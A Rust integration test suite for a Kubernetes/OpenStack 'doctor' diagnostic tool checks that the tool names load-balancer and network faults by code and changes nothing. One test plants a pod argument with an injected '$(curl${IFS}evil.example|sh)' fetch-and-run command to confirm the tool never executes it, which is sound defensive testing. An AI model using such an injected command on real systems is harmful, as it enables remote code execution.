//! `doctor`: names the break on a packet's way, and the fix, for somebody with a kubeconfig and a cloud.conf.

use openstack_ccm_kube_sim::Fault;
use serde_json::{Value, json};

use crate::process::Process;
use crate::stage::Stage;

/// A cluster in which ingress-nginx serves a Service with the PROXY protocol, and its controller, which is stopped.
async fn served() -> Stage {
    served_with(json!({})).await
}

/// The same with more annotations of the Service.
async fn served_with(annotations: Value) -> Stage {
    let stage = Stage::new().await;
    cluster(&stage);
    let wish = json!({"metadata": {"annotations": annotations}});
    stage.kube.patch("services", "default", "web", &wish).unwrap();
    {
        let mut process = Process::start(&stage, "ccm", &[]);
        process.until_ready().await;
        stage.until_published("web").await;
        process.terminate();
        process.end().await;
    }
    stage.cloud.settle();
    lead(&stage);
    stage
}

/// The Lease as a controller at work has it, so that nothing is mended meanwhile.
fn lead(stage: &Stage) {
    let lease = stage.kube.get("leases", "kube-system", "cloud-controller-manager").unwrap();
    let record = lease["metadata"]["annotations"]["cloud-controller-manager.openstack.org/leader"].as_str();
    let record: Value = serde_json::from_str(record.unwrap()).unwrap();
    let spec = json!({"holderIdentity": record["identity"], "leaseDurationSeconds": 3600,
        "renewTime": format!("{:.6}", jiff::Timestamp::now())});
    stage.kube.patch("leases", "kube-system", "cloud-controller-manager", &json!({"spec": spec})).unwrap();
}

/// The Service, its pod with its configuration, and the configuration of CoreDNS.
fn cluster(stage: &Stage) {
    let objects = [
        json!({"apiVersion": "v1", "kind": "Service",
            "metadata": {"name": "web", "annotations": {"loadbalancer.openstack.org/proxy-protocol": "v2"}},
            "spec": {"type": "LoadBalancer", "selector": {"app": "nginx"}, "ports": [{"port": 80}]}}),
        json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "nginx-1", "labels": {"app": "nginx"}},
            "spec": {"containers": [{"image": "registry.example.org/ingress-nginx/controller:v1.15.1",
                "args": ["/nginx-ingress-controller", "--configmap=$(POD_NAMESPACE)/nginx"]}]}}),
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "nginx"},
            "data": {"use-proxy-protocol": "true"}}),
        json!({"apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "addressType": "IPv4",
            "metadata": {"name": "web-1", "labels": {"kubernetes.io/service-name": "web"}},
            "endpoints": [{"addresses": ["10.244.1.7"], "conditions": {"ready": true}}],
            "ports": [{"name": "", "port": 80, "protocol": "TCP"}]}),
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "coredns", "namespace": "kube-system"},
            "data": {"Corefile": ".:53 {\n    kubernetes cluster.local\n}\n"}}),
    ];
    for object in objects {
        stage.kube.create(&object).unwrap();
    }
    run(stage);
    kube_proxy(stage, "v1.36.0");
    open_node_ports(stage);
}

/// The pod gets its address.
fn run(stage: &Stage) {
    let status = json!({"status": {"phase": "Running", "podIPs": [{"ip": "10.244.1.7"}]}});
    stage.kube.patch_status("pods", "default", "nginx-1", &status).unwrap();
}

/// The service proxy as kubeadm installs it: a pod on each node, and their configuration.
fn kube_proxy(stage: &Stage, version: &str) {
    let spec = json!({
        "containers": [{"name": "kube-proxy", "image": format!("registry.example.org/kube-proxy:{version}"),
            "command": ["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"],
            "volumeMounts": [{"name": "kube-proxy", "mountPath": "/var/lib/kube-proxy"}]}],
        "volumes": [{"name": "kube-proxy", "configMap": {"name": "kube-proxy"}}],
    });
    for node in stage.cloud.nodes() {
        let name = format!("kube-proxy-{}", node.name);
        let _former = stage.kube.delete("pods", "kube-system", &name);
        let mut pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "kube-system"}, "spec": spec});
        pod["spec"]["nodeName"] = json!(node.name);
        stage.kube.create(&pod).unwrap();
    }
    configure_kube_proxy(stage, "");
}

fn configure_kube_proxy(stage: &Stage, lines: &str) {
    let _former = stage.kube.delete("configmaps", "kube-system", "kube-proxy");
    let text = format!("apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\n{lines}");
    let map = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "kube-proxy", "namespace": "kube-system"},
        "data": {"config.conf": text}});
    stage.kube.create(&map).unwrap();
}

/// What an operator of nodes does: their security groups let the network in at node ports.
fn open_node_ports(stage: &Stage) {
    let cloud = stage.cloud.user();
    let (_, group) =
        cloud.post("network", "/v2.0/security-groups", &json!({"security_group": {"name": "nodes"}}));
    let group = group["security_group"]["id"].as_str().unwrap().to_owned();
    let rule = json!({"security_group_rule": {"security_group_id": group, "direction": "ingress", "protocol": "tcp",
        "ethertype": "IPv4", "port_range_min": 30000, "port_range_max": 32767, "remote_ip_prefix": "0.0.0.0/0"}});
    let (status, _) = cloud.post("network", "/v2.0/security-group-rules", &rule);
    assert_eq!(status, 201);
    guard_nodes(stage, &[group]);
}

fn guard_nodes(stage: &Stage, groups: &[String]) {
    let addresses: Vec<String> = stage.cloud.nodes().into_iter().flat_map(|node| node.addresses).collect();
    for port in stage.cloud.ports() {
        let own = port["fixed_ips"][0]["ip_address"].as_str().unwrap_or_default();
        if addresses.iter().any(|address| address == own) {
            let path = format!("/v2.0/ports/{}", port["id"].as_str().unwrap());
            stage.cloud.admin().change("network", &path, &json!({"port": {"security_groups": groups}}));
        }
    }
}

/// The exit code, and what was written.
fn doctor(stage: &Stage, arguments: &[&str]) -> (i32, String) {
    let kubeconfig = format!("--kubeconfig={}", stage.file("kubeconfig").display());
    let all: Vec<&str> =
        ["doctor", &kubeconfig, "--cluster-name=c1"].into_iter().chain(arguments.iter().copied()).collect();
    let (status, output) = Process::run(stage, &all);
    (status.code().unwrap(), output)
}

fn with_cloud(stage: &Stage, arguments: &[&str]) -> (i32, String) {
    let cloud = format!("--cloud-config={}", stage.file("cloud.conf").display());
    let all: Vec<&str> = [cloud.as_str()].into_iter().chain(arguments.iter().copied()).collect();
    doctor(stage, &all)
}

/// The codes of errors and warnings, by severity.
fn codes(stage: &Stage) -> (i32, Vec<String>, Value) {
    let (code, output) = with_cloud(stage, &["default/web", "-o", "json"]);
    let start = output.find("\n{").map_or(0, |place| place + 1);
    let report: Value =
        serde_json::from_str(&output[start..]).unwrap_or_else(|error| panic!("{error}: {output}"));
    let categories = report["services"][0]["categories"].as_array().unwrap().clone();
    let checks = categories.iter().flat_map(|category| category["checks"].as_array().unwrap().clone());
    let found = checks.filter(|check| ["error", "warning"].iter().any(|one| check["result"] == *one));
    (code, found.map(|check| check["code"].as_str().unwrap().to_owned()).collect(), report)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_healthy_service_shows_no_finding_and_nothing_is_written() {
    let stage = served().await;
    let version = |stage: &Stage| {
        stage.kube.get("services", "default", "web").unwrap()["metadata"]["resourceVersion"].clone()
    };
    let (before, calls) = (version(&stage), stage.cloud.log().calls().len());
    let (code, output) = with_cloud(&stage, &["-A", "--leftovers", "--fail-on", "warning"]);
    assert_eq!(code, 0, "{output}");
    assert!(
        output.contains(
            "from pods, nodes and outside: no fault found through the load balancer (no packet was sent)."
        ),
        "{output}"
    );
    assert!(
        output.contains("0 errors, 0 warnings, ") && output.ends_with(", 0 not known, 0 not seen\n"),
        "{output}"
    );
    assert_eq!(version(&stage), before);
    let calls = stage.cloud.log().calls().split_off(calls);
    let writes: Vec<String> = calls
        .iter()
        .filter(|call| call.is_write() && !call.path.contains("/auth/tokens"))
        .map(|call| call.path.clone())
        .collect();
    assert_eq!(writes, [""; 0]);
    assert!(!output.contains("secret"), "{output}");
    let (code, output) = with_cloud(&stage, &["default/web", "-o", "mermaid"]);
    assert!(code == 0 && output.contains("flowchart LR"), "{output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn each_fault_is_named_by_its_code() {
    let stage = served().await;
    let status = |entry: Value| {
        let status = json!({"status": {"loadBalancer": {"ingress": [entry]}}});
        stage.kube.patch_status("services", "default", "web", &status).unwrap();
    };
    let ip =
        stage.kube.get("services", "default", "web").unwrap()["status"]["loadBalancer"]["ingress"][0]["ip"]
            .clone();
    status(json!({"ip": ip, "ipMode": "VIP"}));
    assert_eq!((codes(&stage).0, codes(&stage).1), (2, vec!["D201".to_owned()]));
    let (_, _, report) = codes(&stage);
    let conclusion = &report["services"][0]["conclusion"];
    assert_eq!((&conclusion[0]["verdict"], &conclusion[0]["hop"]), (&json!("ends"), &json!(2)));
    assert_eq!(conclusion[2]["verdict"], json!("no-fault-found"));
    status(json!({"ip": ip, "ipMode": "Proxy"}));

    kube_proxy(&stage, "v1.29.9");
    assert_eq!(codes(&stage).1, ["D301"]);
    kube_proxy(&stage, "v1.31.2");
    assert_eq!(codes(&stage).1, [""; 0]);
    configure_kube_proxy(&stage, "featureGates:\n  LoadBalancerIPMode: false\n");
    assert_eq!(codes(&stage).1, ["D301"]);
    configure_kube_proxy(&stage, "nodePortAddresses: [192.0.2.0/24]\n");
    assert_eq!(codes(&stage).1, ["D807"]);
    kube_proxy(&stage, "v1.36.0");

    let external_ips = |ips: Value| {
        stage.kube.patch("services", "default", "web", &json!({"spec": {"externalIPs": ips}})).unwrap();
    };
    external_ips(json!([ip]));
    assert_eq!(codes(&stage).1, ["D208"]);
    let (_, output) = doctor(&stage, &["--leftovers", "--no-cloud"]);
    assert!(output.contains("[L109]"), "{output}");
    external_ips(json!([]));

    let configured = |value: &str| {
        stage
            .kube
            .patch("configmaps", "default", "nginx", &json!({"data": {"use-proxy-protocol": value}}))
            .unwrap();
    };
    configured("false");
    assert_eq!(codes(&stage).1, ["D901"]);
    configured("true");

    let ready = |ready: bool| {
        let endpoints = json!({"endpoints": [{"addresses": ["10.244.1.7"], "conditions": {"ready": ready}}]});
        stage.kube.patch("endpointslices", "default", "web-1", &endpoints).unwrap();
    };
    ready(false);
    assert_eq!(codes(&stage).1, ["D801"]);
    ready(true);

    // Nothing gets in, and nothing out.
    guard_nodes(&stage, &[]);
    assert_eq!(codes(&stage).1, ["D405", "D702"]);
    open_node_ports(&stage);

    let corefile = |line: &str| {
        let text = format!(".:53 {{\n    {line}\n    kubernetes cluster.local\n}}\n");
        stage
            .kube
            .patch("configmaps", "kube-system", "coredns", &json!({"data": {"Corefile": text}}))
            .unwrap();
    };
    corefile("rewrite name shop.example.org web.default.svc.cluster.local # Added by hairpin-proxy");
    assert_eq!(codes(&stage).1, ["D101"]);
    let (_, output) = doctor(&stage, &["--leftovers", "--no-cloud"]);
    assert!(output.contains("[L101]") && output.contains("Corefile line 2"), "{output}");
    corefile("errors");

    let policy = json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": "closed", "namespace": "default"},
        "spec": {"podSelector": {}, "policyTypes": ["Egress"],
            "egress": [{"to": [{"podSelector": {"matchLabels": {"app": "nginx"}}}]}]}});
    stage.kube.create(&policy).unwrap();
    assert_eq!(codes(&stage).1, ["D401"]);
    stage.kube.delete("networkpolicies", "default", "closed").unwrap();
    assert_eq!(codes(&stage).1, [""; 0]);
}

/// What somebody changed in the cloud by hand.
#[tokio::test(flavor = "multi_thread")]
async fn faults_in_the_cloud_are_named_by_their_codes() {
    let stage = served().await;
    let cloud = stage.cloud.user();
    let listener = stage.cloud.listeners()[0].clone();
    let id = |object: &Value| object["id"].as_str().unwrap().to_owned();
    let listener_path = format!("/v2.0/lbaas/listeners/{}", id(&listener));
    let pool = json!({"pool": {"name": "by-hand", "protocol": "TCP", "lb_algorithm": "ROUND_ROBIN",
        "loadbalancer_id": listener["loadbalancers"][0]["id"]}});
    let made = cloud.make("load-balancer", "/v2.0/lbaas/pools", &pool);
    stage.cloud.settle();
    let lead_to = |pool: &Value| {
        let body = json!({"listener": {"default_pool_id": pool}});
        cloud.change("load-balancer", &listener_path, &body);
        stage.cloud.settle();
    };
    lead_to(&made["pool"]["id"]);
    let found = codes(&stage).1;
    assert!(found.contains(&"D601".to_owned()) && !found.iter().any(|code| code == "D503"), "{found:?}");
    lead_to(&listener["default_pool_id"]);

    let pool = listener["default_pool_id"].as_str().unwrap().to_owned();
    let member = stage.cloud.members(&pool)[0].clone();
    let path = format!("/v2.0/lbaas/pools/{pool}/members/{}", id(&member));
    let (status, _) = cloud.delete("load-balancer", &path);
    assert_eq!(status, 204);
    stage.cloud.settle();
    assert!(codes(&stage).1.contains(&"D701".to_owned()), "{:?}", codes(&stage).1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_monitor_that_somebody_removed_is_named() {
    let stage = served_with(json!({"loadbalancer.openstack.org/enable-health-monitor": "true"})).await;
    assert_eq!(codes(&stage).1, [""; 0]);
    let monitor = stage.cloud.health_monitors()[0]["id"].as_str().unwrap().to_owned();
    let path = format!("/v2.0/lbaas/healthmonitors/{monitor}");
    assert_eq!(stage.cloud.user().delete("load-balancer", &path).0, 204);
    stage.cloud.settle();
    assert_eq!(codes(&stage).1, ["D507"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_looked_at_is_unknown_and_never_green() {
    let stage = served().await;
    let (code, output) = doctor(&stage, &["default/web", "--no-cloud"]);
    assert_eq!(code, 0, "{output}");
    assert!(
        output.contains("? not seen: the cloud (--no-cloud), for status, load balancer, header, members"),
        "{output}"
    );
    assert!(output.contains("(no packet was sent; not seen: the cloud (--no-cloud))"), "{output}");
    let (code, _) = doctor(&stage, &["default/web", "--no-cloud", "--fail-on=unseen"]);
    assert_eq!(code, 3);
    let (code, output) = doctor(&stage, &["default/web"]);
    assert!(code == 3 && output.contains("(no --cloud-config or --from-cluster)"), "{code} {output}");
    stage.kube.inject(Fault::on("GET", "networkpolicies").fail(
        403,
        "Forbidden",
        "networkpolicies is forbidden",
    ));
    let (code, output) = doctor(&stage, &["default/web", "--no-cloud", "-o", "short"]);
    assert_eq!(code, 3, "{output}");
    assert!(
        output.contains("NetworkPolicies cannot be read: networkpolicies is forbidden")
            && !output.contains('√')
            && !output.contains("Status {"),
        "{output}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn who_cannot_look_at_all_reads_why() {
    let mut stage = Stage::without_cloud().await;
    let (code, output) = doctor(&stage, &["default/web"]);
    assert!(code == 1 && output.contains("there is no Service default/web"), "{output}");
    cluster_without_cloud(&stage);
    let (code, output) = with_cloud(&stage, &["default/web", "-o", "short"]);
    assert!(code == 2 && output.contains("? not known: the cloud ("), "{code} {output}");
    stage.stop_kubernetes();
    let (code, output) = doctor(&stage, &["-A"]);
    assert!(code == 1 && output.contains("cannot be reached"), "{output}");
}

fn cluster_without_cloud(stage: &Stage) {
    stage.create_service("web");
}

/// A Service of another cloud is judged by the annotation of that cloud.
#[tokio::test(flavor = "multi_thread")]
async fn it_needs_neither_openstack_nor_openstack_ccm() {
    let stage = Stage::without_cloud().await;
    let service = json!({"apiVersion": "v1", "kind": "Service",
        "metadata": {"name": "web", "annotations": {"service.beta.kubernetes.io/do-loadbalancer-enable-proxy-protocol": "true"}},
        "spec": {"type": "LoadBalancer", "ports": [{"port": 443}]}});
    stage.kube.create(&service).unwrap();
    let status = json!({"status": {"loadBalancer": {"ingress": [{"ip": "203.0.113.10"}]}}});
    stage.kube.patch_status("services", "default", "web", &status).unwrap();
    let (code, output) = doctor(&stage, &["default/web", "--no-cloud"]);
    assert!(code == 2 && output.contains("[D201]"), "{output}");
    assert!(output.contains("ip-mode-overlay") && !output.contains("loadbalancer.openstack.org"), "{output}");
    assert!(output.contains("do-loadbalancer-enable-proxy-protocol: true"), "{output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn it_prints_the_role_that_it_needs() {
    let stage = Stage::without_cloud().await;
    let (code, output) = doctor(&stage, &["--print-rbac"]);
    let role: Value = serde_saphyr::from_str(&output).unwrap();
    assert_eq!((code, &role["kind"]), (0, &json!("ClusterRole")));
    let rules = role["rules"].as_array().unwrap();
    let verbs = rules.iter().flat_map(|rule| rule["verbs"].as_array().unwrap());
    assert!(verbs.into_iter().all(|verb| ["get", "list"].contains(&verb.as_str().unwrap())), "{output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn rules_of_a_node_are_read_from_a_file_or_a_pipe() {
    let stage = Stage::without_cloud().await;
    let dump = concat!(env!("CARGO_MANIFEST_DIR"), "/../doctor/tests/dumps/nftables.nft.json");
    let rules = |address: &str, more: &[&str]| {
        let all: Vec<&str> =
            ["doctor", "rules", "--address", address, dump].into_iter().chain(more.iter().copied()).collect();
        let (status, output) = Process::run(&stage, &all);
        (status.code().unwrap(), output)
    };
    let (code, output) = rules("203.0.113.20:443", &[]);
    assert!(code == 0 && output.contains("203.0.113.20:443: through"), "{output}");
    let (code, output) = rules("203.0.113.10:443", &[]);
    assert!(code == 0 && output.contains("to a pod: 10.244.1.7:8080, 10.244.2.8:8080"), "{output}");
    let (code, output) = rules("203.0.113.10:443", &["--needs-load-balancer", "-o", "json"]);
    let object: Value = serde_json::from_str(&output).unwrap();
    assert_eq!((code, &object["findings"][0]["code"]), (2, &json!("D302")));
    assert_eq!(object["fate"]["verdict"], json!("to-pod"));
    let (code, output) = rules("203.0.113.10:443", &["--mode", "ipvs"]);
    assert!(code == 2 && output.contains("[D303]"), "{output}");
}

/// The pods go again when nobody runs them.
#[tokio::test(flavor = "multi_thread")]
async fn live_pods_are_removed_whatever_happens_and_nothing_is_done_unasked() {
    let stage = served().await;
    let (code, output) =
        doctor(&stage, &["default/web", "--no-cloud", "--live", "--image=example.org/ccm:1"]);
    assert!(code == 1 && output.contains("confirm with --yes"), "{output}");
    let all =
        ["default/web", "--no-cloud", "--live", "--yes", "--image=example.org/ccm:1", "--live-timeout=1s"];
    let (_, output) = doctor(&stage, &all);
    assert!(output.contains("no connection was tried"), "{output}");
    assert!(stage.kube.get("namespaces", "", "openstack-ccm-doctor").is_err(), "it is removed");
    assert!(stage.kube.list("pods", "openstack-ccm-doctor").unwrap().is_empty());
}

/// What kubectl takes, doctor takes.
#[tokio::test(flavor = "multi_thread")]
async fn services_are_named_as_for_kubectl() {
    let stage = served().await;
    let forms: [&[&str]; 7] = [
        &["default/web"],
        &["svc/web", "-n", "default"],
        &["-n", "default", "web"],
        &["web"],
        &[],
        &["-n", "default"],
        &["--all-namespaces"],
    ];
    for form in forms {
        let (code, output) = with_cloud(&stage, form);
        assert!(code == 0 && output.contains("default/web ("), "{form:?}: {code} {output}");
    }
    let (code, output) = with_cloud(&stage, &["-n", "other"]);
    assert!(code == 1 && output.contains("there is no namespace other"), "{code} {output}");
    let (code, output) = with_cloud(&stage, &["-n", "kube-system"]);
    assert!(
        code == 3 && output.contains("kube-system has no Service of type LoadBalancer"),
        "{code} {output}"
    );
    let (code, output) = with_cloud(&stage, &["web", "wbe"]);
    assert!(
        code == 3 && output.contains("default/web (") && output.contains("there is no Service default/wbe"),
        "{output}"
    );
    // As kubectl asks the plugin to complete a word.
    let kubeconfig = format!("--kubeconfig={}", stage.file("kubeconfig").display());
    for (typed, completed) in [("w", "web\n:4\n"), ("default/", "default/web\n:4\n"), ("x", ":4\n")] {
        let (_, output) = Process::run(&stage, &["__complete", "doctor", &kubeconfig, typed]);
        assert_eq!(output, completed, "{typed}");
    }
    let (_, output) = with_cloud(&stage, &["web", "-o", "yaml"]);
    // How far it is comes before, on a loaded machine.
    let start = output.find("counts:").unwrap();
    let report: Value = serde_saphyr::from_str(&output[start..]).unwrap();
    assert_eq!(report["services"][0]["conclusion"][2]["verdict"], json!("no-fault-found"));
}

/// Whoever may read a namespace sees what is in it.
#[tokio::test(flavor = "multi_thread")]
async fn the_rights_in_a_namespace_are_enough_for_its_services() {
    let stage = served().await;
    stage.kube.inject(Fault::on("GET", "services").fail(403, "Forbidden", "services is forbidden").times(1));
    let (_, output) = with_cloud(&stage, &["-n", "default", "web"]);
    assert!(output.contains("default/web (") && output.contains("√ published: "), "{output}");
}

/// Each of them is an outage that its objects show; packets do not arrive, and doctor says where they end.
#[tokio::test(flavor = "multi_thread")]
async fn what_is_disabled_detached_or_somebody_elses_is_never_green() {
    let stage = served().await;
    let user = stage.cloud.user();
    let put = |path: &str, body: Value| {
        user.change("load-balancer", path, &body);
        stage.cloud.settle();
    };
    let outside = || {
        let report = codes(&stage).2;
        let conclusion = &report["services"][0]["conclusion"][2];
        (conclusion["verdict"].as_str().unwrap().to_owned(), conclusion["hop"].as_u64().unwrap_or(99))
    };
    let ends = |hop: u64| ("ends".to_owned(), hop);
    let well = ("no-fault-found".to_owned(), 99);
    assert_eq!(outside(), well);
    let listener = stage.cloud.listeners()[0].clone();
    let id = |object: &Value| object["id"].as_str().unwrap().to_owned();
    let pool = listener["default_pool_id"].as_str().unwrap().to_owned();
    let balancer = listener["loadbalancers"][0]["id"].as_str().unwrap().to_owned();
    for (path, root) in [
        (format!("/v2.0/lbaas/loadbalancers/{balancer}"), "loadbalancer"),
        (format!("/v2.0/lbaas/listeners/{}", id(&listener)), "listener"),
        (format!("/v2.0/lbaas/pools/{pool}"), "pool"),
    ] {
        put(&path, json!({root: {"admin_state_up": false}}));
        assert_eq!(outside(), ends(5), "{root}");
        put(&path, json!({root: {"admin_state_up": true}}));
        assert_eq!(outside(), well, "{root}");
    }
    let members: Vec<String> = stage.cloud.members(&pool).iter().map(id).collect();
    for (off, on) in [
        (json!({"admin_state_up": false}), json!({"admin_state_up": true})),
        (json!({"weight": 0}), json!({"weight": 1})),
    ] {
        let all = |change: &Value| {
            for member in &members {
                put(&format!("/v2.0/lbaas/pools/{pool}/members/{member}"), json!({"member": change}));
            }
        };
        all(&off);
        assert_eq!(outside(), ends(7), "{off}");
        all(&on);
        assert_eq!(outside(), well, "{off}");
    }
    let status = |entry: &Value| {
        let status = json!({"status": {"loadBalancer": {"ingress": [entry]}}});
        stage.kube.patch_status("services", "default", "web", &status).unwrap();
    };
    let service = stage.kube.get("services", "default", "web").unwrap();
    let entry = service["status"]["loadBalancer"]["ingress"][0].clone();
    status(&json!({"ip": "198.19.0.199", "ipMode": "Proxy"}));
    assert_eq!(outside(), ends(2));
    status(&json!({"hostname": "198.19.0.199.nip.io"}));
    assert_ne!(outside(), well);
    status(&entry);
    let slice = |ports: Value| {
        stage.kube.patch("endpointslices", "default", "web-1", &json!({"ports": ports})).unwrap();
    };
    slice(json!([{"name": "other", "port": 80, "protocol": "TCP"}]));
    assert_eq!(outside(), ends(8));
    slice(json!([{"name": "", "port": 80, "protocol": "TCP"}]));
    let policy = json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": "closed", "namespace": "default"},
        "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}});
    stage.kube.create(&policy).unwrap();
    assert_eq!(outside(), ends(8));
    stage.kube.delete("networkpolicies", "default", "closed").unwrap();
    assert_eq!(outside(), well);
    let floating = user.get("network", "/v2.0/floatingips").1["floatingips"][0].clone();
    let path = format!("/v2.0/floatingips/{}", id(&floating));
    assert_eq!(user.put("network", &path, &json!({"floatingip": {"port_id": null}})).0, 200);
    assert_eq!(outside(), ends(5));
    assert_eq!(user.delete("network", &path).0, 204);
    assert_eq!(outside(), ends(5));
}

/// The first question of everybody who waits for an address.
#[tokio::test(flavor = "multi_thread")]
async fn without_a_controller_doctor_says_so() {
    let stage = served().await;
    let lease = json!({"spec": {"holderIdentity": ""}});
    stage.kube.patch("leases", "kube-system", "cloud-controller-manager", &lease).unwrap();
    assert_eq!(codes(&stage).1, ["D002"]);
    let empty = json!({"status": {"loadBalancer": {"ingress": []}}});
    stage.kube.patch_status("services", "default", "web", &empty).unwrap();
    let (code, found, _) = codes(&stage);
    assert!(
        code == 2 && found.contains(&"D001".to_owned()) && found.contains(&"D206".to_owned()),
        "{found:?}"
    );
}

/// Whoever may run a pod may write its arguments.
#[tokio::test(flavor = "multi_thread")]
async fn an_argument_of_a_pod_is_no_part_of_a_command() {
    let stage = served().await;
    stage.kube.delete("pods", "default", "nginx-1").unwrap();
    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "nginx-1", "labels": {"app": "nginx"}},
        "spec": {"containers": [{"image": "registry.example.org/ingress-nginx/controller:v1.15.1",
            "args": ["/nginx-ingress-controller", "--configmap=default/nginx?$(curl${IFS}evil.example|sh)"]}]}});
    stage.kube.create(&pod).unwrap();
    run(&stage);
    let before = stage.kube.requests().len();
    let (code, output) = with_cloud(&stage, &["web", "-o", "json"]);
    assert!(code == 3 && !output.contains("curl"), "{code} {output}");
    let asked = stage.kube.requests().split_off(before);
    assert!(asked.iter().all(|request| !request.path.contains("curl")), "{asked:?}");
}

/// Many Services cost lists, not calls for each.
#[tokio::test(flavor = "multi_thread")]
async fn many_services_are_looked_at_by_lists() {
    let stage = served().await;
    for number in 0..30 {
        let service = json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": format!("s{number}")},
            "spec": {"type": "LoadBalancer", "selector": {"app": "nginx"}, "ports": [{"port": 80}]}});
        stage.kube.create(&service).unwrap();
    }
    let before = stage.kube.requests().len();
    let (code, output) = with_cloud(&stage, &["-A", "-o", "short"]);
    assert_eq!(code, 2, "{output}");
    let mut lists = std::collections::BTreeMap::<String, usize>::new();
    for request in stage.kube.requests().split_off(before) {
        *lists.entry(request.path.split('?').next().unwrap_or_default().to_owned()).or_default() += 1;
    }
    let most = lists.iter().max_by_key(|(_, count)| **count).unwrap();
    assert!(*most.1 <= 5, "{most:?}");
    assert!(output.contains("in 30 Services, shown for the first: default/s0, "), "{output}");
    assert!(output.contains("31 Services: no fault found for 1 of them"), "{output}");
}
